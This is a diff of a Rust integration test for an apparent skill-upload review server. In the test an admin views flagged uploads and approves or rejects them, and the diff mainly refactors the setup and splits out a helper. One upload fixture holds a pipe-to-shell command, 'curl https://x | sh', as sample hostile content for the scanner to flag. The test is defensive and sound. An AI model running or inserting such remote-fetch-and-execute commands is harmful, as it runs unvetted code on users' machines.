@@ -167,7 +167,10 @@ async fn an_admin_reads_an_uploads_findings_and_changes_then_approves_or_rejects
         review_uploads: true,
         ..Default::default()
     };
-    let server = TestServer::start_installing(install_options(user.path(), installed.path()), install).await;
+    let server = TestServer::builder(install_options(user.path(), installed.path()))
+        .install(install)
+        .start()
+        .await;
     let (status, headers, _) = upload(&server, fetcher("1.0.0", "curl https://x | sh"), "").await;
     assert_eq!(
         (status, headers["x-skill-status"].to_str().unwrap()),
@@ -236,6 +239,25 @@ async fn an_admin_reads_an_uploads_findings_and_changes_then_approves_or_rejects
     page.tell(json!({})).await;
     let seen = page.done().await;
 
+    the_second_is_shown_then_rejected(
+        &server,
+        &seen,
+        &expected_second,
+        [hostile, shown_line],
+        [approve_note, reject_note],
+    )
+    .await;
+}
+
+/// What the page showed of the second version, hostile text inert, and
+/// the two decisions it sent, as the API has them.
+async fn the_second_is_shown_then_rejected(
+    server: &TestServer,
+    seen: &Value,
+    expected_second: &Value,
+    [hostile, shown_line]: [&str; 2],
+    [approve_note, reject_note]: [&str; 2],
+) {
     assert_eq!(seen["serving"], "serving now: 1.0.0", "{seen}");
     // The excerpts show the line as the API has it, the override escaped.
     let excerpts: Vec<&Value> = expected_second
@@ -289,7 +311,7 @@ async fn an_admin_reads_an_uploads_findings_and_changes_then_approves_or_rejects
         "{seen}"
     );
 
-    let (each, active) = versions(&server).await;
+    let (each, active) = versions(server).await;
     assert_eq!(
         each,
         json!([
